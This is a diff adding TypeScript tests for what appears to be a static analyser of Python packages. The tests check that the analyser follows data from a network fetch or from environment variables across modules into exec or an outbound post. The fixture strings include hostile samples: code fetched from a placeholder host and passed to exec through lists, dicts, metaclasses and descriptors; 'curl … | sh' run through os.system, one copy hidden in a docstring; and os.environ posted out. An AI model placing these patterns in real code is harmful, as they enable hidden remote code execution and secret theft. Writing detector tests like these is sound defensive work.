@@ -79,3 +79,54 @@ test('a class of several bases from other modules has the methods of each of the
   const look = 'import os\nclass Look:\n    def look(self): return dict(os.environ)\n';
   expect(flows(main, [post, look], ['environment', 'network'])).toContain('shed.py import');
 });
+
+const FETCHED = 'requests.get("https://o.example.invalid").text';
+
+test.each<[string, string, string]>([
+  ['a variable of a context', 'import contextvars\nbed = contextvars.ContextVar("bed")\ndef dig(): exec(bed.get())\n', `bed.set(${FETCHED})`],
+  ['a list', 'bed = []\ndef dig():\n    for code in bed: exec(code)\n', `bed.append(${FETCHED})`],
+  ['a dict', 'bed = {}\ndef dig(): exec(bed["x"])\n', `bed["x"] = ${FETCHED}`],
+])('%s of a module is emptied there of what another module has put into it', (_, shed, fill) => {
+  expect(flows(`import requests\nfrom .shed import bed, dig\n${fill}\ndig()\n`, shed, ['network', 'exec'])).toContain('shed.py import');
+});
+
+test('a variable of the environment is that of all modules', () => {
+  expect(flows('import os\nfrom .shed import fill\nfill()\nexec(os.environ["BED"])\n', `import os, requests\ndef fill(): os.environ["BED"] = ${FETCHED}\n`, ['network', 'exec'])).toContain('main.py import');
+});
+
+test('what another module has put into one list does not come out of another one', () => {
+  expect(flows(`import requests\nfrom .shed import bed, dig\nbed.append(${FETCHED})\ndig()\n`, 'bed = []\nshelf = []\ndef dig():\n    for code in shelf: exec(code)\n', ['network', 'exec'])).toEqual([]);
+});
+
+const TABLE = 'import os\nTABLE = {"act": os.system, "leaf": "curl https://o.example.invalid/x | sh"}\n';
+
+const startsIn = (main: string, shed: string): boolean | undefined => {
+  const files = Object.entries({ 'main.py': main, 'shed.py': shed }).map(([path, text]) => ({ path, bytes: Buffer.from(text), runs: 'import' as const }));
+  return linkedFacts(files, resolve, { parser }).get('main.py')?.calls('process').some(({ traits }) => traits.has('fetches-and-runs'));
+};
+
+test.each<[string, string]>([
+  ['gone through', 'for name, value in TABLE.items():\n    globals()[name] = value\nact(leaf)\n'],
+  ['taken up as a whole', 'globals().update(TABLE)\nact(leaf)\n'],
+  ['handed on name by name', 'def go(act, leaf): act(leaf)\ngo(**TABLE)\n'],
+])('a dict of another module that is %s is known by its names', (_, text) => {
+  expect(startsIn(`from .shed import TABLE\n${text}`, TABLE)).toBe(true);
+});
+
+test('what objects of another module keep is taken apart with them', () => {
+  const shed = 'import os\nfrom dataclasses import dataclass, field\n@dataclass\nclass Bed:\n    leaves: dict = field(default_factory=lambda: dict(os.environ))\n';
+  expect(flows('import dataclasses, json, requests\nfrom .shed import Bed\nrequests.post("https://o.example.invalid", json=dataclasses.asdict(Bed()))\n', `${shed}    def __post_init__(self): self.all = dict(os.environ)\n`, ['environment', 'network'])).toContain('main.py import');
+});
+
+test.each<[string, string, string]>([
+  ['makes a class', 'class Rose(metaclass=Bed):\n    leaf = LEAF\n', 'class Bed(type):\n    def __new__(mcs, name, bases, names):\n        exec(names["leaf"])\n'],
+  ['is what the names of a class are put into', 'class Rose(metaclass=Bed):\n    leaf = LEAF\n', 'class Names(dict):\n    def __setitem__(self, key, value): exec(value)\nclass Bed(type):\n    @classmethod\n    def __prepare__(mcs, name, bases): return Names()\n'],
+  ['is asked for a part by its class', 'Bed[LEAF]\n', 'class Bed:\n    def __class_getitem__(cls, item): exec(item)\n'],
+  ['stands in a class', 'class Rose:\n    leaf = Bed()\n    def dig(self, code): exec(code)\nRose().leaf\n', 'import requests\nclass Bed:\n    def __get__(self, rose, owner): return rose.dig(requests.get("https://o.example.invalid").text)\n'],
+])('a class of another module is told of what it %s', (_, text, shed) => {
+  expect(flows(`import requests\nfrom .shed import Bed\nLEAF = ${FETCHED}\n${text}`, shed, ['network', 'exec']).filter((flow) => flow.endsWith('import'))).not.toEqual([]);
+});
+
+test('what stands at the top of a function of another module is known there', () => {
+  expect(startsIn('from .shed import leaf\nexec(leaf.__doc__)\n', 'def leaf():\n    "import os; os.system(\'curl https://o.example.invalid/x | sh\')"\n')).toBe(true);
+});
